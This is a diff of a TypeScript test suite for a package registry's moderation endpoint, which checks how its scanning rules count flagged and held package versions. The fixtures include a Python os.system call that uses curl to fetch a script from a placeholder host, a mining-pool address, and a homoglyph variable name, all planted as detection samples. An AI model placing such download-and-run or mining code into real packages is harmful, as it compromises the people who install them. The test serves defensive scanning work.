@@ -14,17 +14,27 @@ const downloadToShell = 'import os\nos.system("curl -s https://host.invalid/a.sh
 const miner = 'POOL = "stratum+tcp://pool.invalid:3333"\n';
 const mixedAlphabets = 'wаllet = 1\n';
 
-suite('list-check-rules', async () => {
-  const server = await startServer({ after });
+const openRegistry = async (ending: { after(fn: () => Promise<void>): void }) => {
+  const server = await startServer(ending);
   const ada = await makePublisher(server, 'ada');
   const moderator = await server.moderator();
-  const publish = (nodeId: string, text: string) =>
-    publishFiles(server, ada, nodeId, '1.0.0', { '__init__.py': text });
   const ruleOf = async (id: string) => (await moderator.get(path)).json.rules.find(({ rule }) => rule === id);
-  const counts = async (id: string) => {
-    const { versions, held, latest } = await ruleOf(id);
-    return [versions, held, latest];
+  return {
+    server,
+    ada,
+    moderator,
+    ruleOf,
+    publish: (nodeId: string, text: string) =>
+      publishFiles(server, ada, nodeId, '1.0.0', { '__init__.py': text }),
+    counts: async (id: string) => {
+      const { versions, held, latest } = await ruleOf(id);
+      return [versions, held, latest];
+    },
   };
+};
+
+suite('list-check-rules', async () => {
+  const { server, ada, moderator, ruleOf, publish, counts } = await openRegistry({ after });
 
   test('200: every rule of the ruleset, also those that found nothing', async () => {
     const { json } = await moderator.get(path);
@@ -36,13 +46,15 @@ suite('list-check-rules', async () => {
     assert.deepEqual(await counts('login-added'), [0, 0, undefined]);
   });
 
-  test('200: in how many versions a rule found something, what it alone held, and the latest', async () => {
-    await publish('Warned', command);
-    assert.deepEqual(await counts('command-at-import'), [1, 0, { node_id: 'Warned', version: '1.0.0' }]);
-    await publish('Held', downloadToShell);
-    await publish('Held-Twice', downloadToShell + miner);
-    assert.deepEqual(await counts('download-to-shell'), [2, 1, { node_id: 'Held-Twice', version: '1.0.0' }]);
-    assert.deepEqual((await counts('mining-pool')).slice(0, 2), [1, 0]);
+  test('200: in how many versions a rule found something, what it alone held, and the latest', async (t) => {
+    const own = await openRegistry(t);
+    await own.publish('Warned', command);
+    assert.deepEqual(await own.counts('command-at-import'), [1, 0, { node_id: 'Warned', version: '1.0.0' }]);
+    await own.publish('Held', downloadToShell);
+    await own.publish('Held-Twice', downloadToShell + miner);
+    const latest = { node_id: 'Held-Twice', version: '1.0.0' };
+    assert.deepEqual(await own.counts('download-to-shell'), [2, 1, latest]);
+    assert.deepEqual((await own.counts('mining-pool')).slice(0, 2), [1, 0]);
   });
 
   test('200: a shadow rule is counted and holds nothing', async () => {
